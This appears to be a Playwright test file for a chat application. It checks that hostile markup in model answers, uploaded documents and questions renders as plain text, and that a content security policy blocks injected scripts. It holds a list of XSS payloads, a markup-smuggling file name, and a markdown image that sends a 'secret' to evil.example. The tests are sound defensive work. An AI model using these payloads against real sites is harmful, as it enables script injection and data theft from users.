"""Whatever a model, a document or a name says: it is shown, and nothing of it is done."""

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Watch
from tests.browser.person import answered, come, words
from tests.e2e.service import Service
from tests.model_server import ModelServer

pytestmark = pytest.mark.asyncio(loop_scope="module")
NASTY = """<script>window.ran = 1</script><img src=x onerror="window.ran=1"><svg onload="window.ran=1"></svg>
<a href="javascript:window.ran=1">click</a> <iframe src="http://evil.example/"></iframe> <style>*{display:none}</style>

[one](javascript:window.ran=1) [two](JaVa\tScript:window.ran=1) [three](data:text/html,<script>window.ran=1</script>)
[four](vbscript:x) [five](&#106;avascript:window.ran=1) <javascript:window.ran=1>

![seen][pixel] ![here](http://evil.example/pixel.png?q=secret "t") ![six](//evil.example/x)

[pixel]: http://evil.example/pixel.png

\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \u202eevil\u202c

```html" onclick="window.ran=1
<script>window.ran = 1</script>
```

| <img src=x onerror=window.ran=1> | b |
|---|---|
| [x](javascript:window.ran=1) | `<script>` |

[1](javascript:window.ran=1) [1] [99]
"""
LINKS = "(all) => all.map((one) => [one.protocol, one.rel, one.target])"
MARKUP = """<img src="data:," onerror="window.ran = 1"><a id="x" href="javascript:window.ran=1">x</a>"""
LOADS = "img, script, iframe, object, embed, style, link, video, audio, source, form, input, base, meta"


async def test_a_hostile_answer_is_text(page: Page, shared: Service, scripted: ModelServer, watch: Watch) -> None:
    scripted.tokens([NASTY[at : at + 7] for at in range(0, len(NASTY), 7)])
    await come(page, shared.url)
    turn = await answered(page)
    for _ in range(2):
        assert await words(turn).locator(LOADS).count() == 0
        inside = words(turn).locator("*")
        names = await inside.evaluate_all("(all) => all.flatMap((one) => one.getAttributeNames())")
        assert not [name for name in names if name.startswith("on") or name in ("style", "src", "srcset", "srcdoc")]
        for protocol, relation, target in await words(turn).locator("a").evaluate_all(LINKS):
            assert protocol in ("http:", "https:", "mailto:")
            assert "noopener" in relation
            assert target == "_blank"
        shown = await words(turn).inner_text()
        assert "window.ran = 1" in shown
        assert not set("\x1b\x07\u202e\u202c") & set(shown)
        assert await page.evaluate("window.ran") is None
        await page.reload()
        await expect(words(turn)).to_contain_text("window.ran = 1")


async def test_a_hostile_document_is_text(page: Page, shared: Service, scripted: ModelServer, watch: Watch) -> None:
    watch.allowed.append("404")  # the shared knowledge has no such document
    fact = "The <b>zorble</b> <script>window.ran=1</script> weighs nine stone \x1b[31m and ![x](http://evil.example/x.png)."
    scripted.tokens(["The zorble weighs nine stone [1]."])
    await come(page, shared.url)
    await page.locator("#file-input").set_input_files(
        [{"name": '"><img src=x onerror=window.ran=1>.txt', "mimeType": "text/plain", "buffer": fact.encode()}]
    )
    await expect(page.locator(".file")).to_have_attribute("data-status", "ready")
    turn = await answered(page, "What does the zorble weigh?")
    await turn.get_by_role("list", name="Sources").get_by_role("button").first.click()
    await expect(page.locator("#panel mark")).to_contain_text("window.ran=1")
    assert await page.locator("#panel").locator(LOADS).count() == 0
    assert await page.evaluate("window.ran") is None


async def test_a_hostile_question_is_text(page: Page, shared: Service, scripted: ModelServer) -> None:
    scripted.tokens(["Yes."])
    await come(page, shared.url)
    await answered(page, NASTY.replace("\x1b", "").replace("\x07", ""))
    for _ in range(2):
        assert await page.locator(".question").locator("*").count() == 0
        assert await page.locator("#chats, #title").locator(LOADS).count() == 0
        await page.reload()
        await expect(page.locator(".question")).to_contain_text("<script>")
    assert await page.evaluate("window.ran") is None


async def test_a_script_of_another_kind_is_stopped_by_the_policy(page: Page, shared: Service, watch: Watch) -> None:
    """If ever markup got in: the content policy is the second wall."""
    await come(page, shared.url)
    watch.allowed += ["Content Security Policy", "Refused", "violates"]
    await page.evaluate("(markup) => document.body.insertAdjacentHTML('beforeend', markup)", MARKUP)
    await page.evaluate("document.getElementById('x').click()")
    for _ in range(2):
        await page.evaluate("new Promise((done) => setTimeout(done))")  # what was stopped is told in a task of its own
    assert await page.evaluate("window.violations.length") >= 2
    assert await page.evaluate("window.ran") is None
    await page.evaluate("window.violations.length = 0")
